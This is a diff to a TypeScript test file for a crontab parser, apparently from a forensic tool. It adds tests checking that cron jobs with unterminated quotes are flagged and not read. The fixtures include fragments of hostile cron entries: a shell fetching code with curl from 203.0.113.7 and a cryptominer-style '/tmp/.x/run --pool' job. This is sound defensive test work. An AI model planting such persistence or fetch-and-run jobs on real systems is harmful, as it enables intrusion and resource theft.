@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from '../contract.js';
+import { cutCase, fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from '../contract.js';
 import { crontab, parseCronLine } from './crontab.js';
 
 const MTIME = Date.UTC(2024, 0, 1);
@@ -16,6 +16,8 @@ runSourceContract({
   source: crontab,
   good,
   bad,
+  // the file copied while a job was written: it ends inside the quoted script
+  cut: cutCase(good, '*/5 * * * * root /bin/sh -c "curl -s http://203.0.113.7/cutmin', 'cutmin'),
   skip: {
     oversized:
       'the contract builds its input without mtimeMs, and a state source without a time reads nothing (FILE_NO_MTIME); rerun below with a time',
@@ -223,4 +225,34 @@ test('reads a content-sniffed file in user format', async () => {
   const { events } = await readAll(crontab, input);
   assert.deepEqual(events[0].original, { schedule: '*/5 * * * *', command: '/tmp/.x/run' });
   assert.equal(events[0].file?.path, 'suspect.txt');
+});
+
+test('crontab: a job whose command leaves a quote or substitution open is reported and not read, anywhere in the file', async () => {
+  const whole = '* * * * * root /usr/bin/true\n';
+  for (const [job, line] of [
+    ["* * * * * root /tmp/.x/run --pool 'pool.example:3333", 2],
+    ['* * * * * root /bin/sh -c "$(curl -s http://203.0.113.7/x', 2],
+    ['@reboot root /tmp/.x/run "--donate', 2],
+  ] as const) {
+    for (const text of [`${whole}${job}\n${whole}`, `${whole}${job}`]) {
+      const { events, issues } = await readAll(crontab, memoryInput('crontab', text, withTime));
+      assert.deepEqual(
+        issues.map((i) => [i.line, i.code]),
+        [[line, 'CRON_UNTERMINATED']],
+        text,
+      );
+      assert.ok(
+        !events.some((e) => JSON.stringify(e).includes('/tmp/.x/run') || JSON.stringify(e).includes('203.0.113.7')),
+        text,
+      );
+      assert.ok(events.length > 0, text);
+    }
+  }
+  // quotes closed (and a last line without a newline) are whole
+  const { events, issues } = await readAll(
+    crontab,
+    memoryInput('crontab', `${whole}* * * * * root /bin/sh -c 'echo "a b"' $(printf x)`, withTime),
+  );
+  assert.deepEqual(issues, []);
+  assert.equal(events.length, 2);
 });
